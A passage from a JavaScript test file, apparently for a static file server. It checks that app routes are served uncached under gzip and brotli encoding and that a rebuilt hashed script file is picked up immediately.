    for (const path of ['/tickets/42', '/my', '/t']) {
      const res = await get(path, 'gzip, br');
      expect(res.status, path).toBe(200);
      expect(res.headers.get('cache-control'), path).toBe('no-cache');
      expect(decoded(res), path).toBe(page);
    }
  });

  it('follow a rebuilt file at once', async () => {
    const before = await get('/app-Bx12aB.js', 'br');
    expect(decoded(before)).toBe(script);
    const rebuilt = `${script}\nconsole.log('rebuilt');`;
    writeFileSync(join(dir, 'app-Bx12aB.js'), rebuilt);
    expect(decoded(await get('/app-Bx12aB.js', 'br'))).toBe(rebuilt);
    expect(decoded(await get('/app-Bx12aB.js', 'gzip'))).toBe(rebuilt);
  });
});
